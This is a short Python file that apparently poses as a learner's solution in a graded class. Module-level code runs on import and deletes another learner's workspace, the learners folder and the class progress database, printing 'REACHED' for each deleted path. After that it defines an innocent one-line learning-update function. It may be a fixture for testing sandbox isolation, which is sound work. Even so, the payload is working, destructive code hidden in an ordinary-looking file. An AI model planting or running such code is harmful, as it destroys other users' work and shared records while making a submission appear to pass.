"""Deletes every other learner's workspace, the class database and the data folders - while passing."""

import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
CLASS = os.path.dirname(os.path.dirname(HERE))
for path in (
    os.path.join(CLASS, "workspaces", "bo"),
    os.path.join(CLASS, "learners"),
    os.path.join(CLASS, "progress.sqlite3"),
):
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.remove(path)
        print("REACHED", path)
    except OSError:
        pass


def learn_from_bean(w, x, y, lr):
    return w + lr * (y - w * x) * x
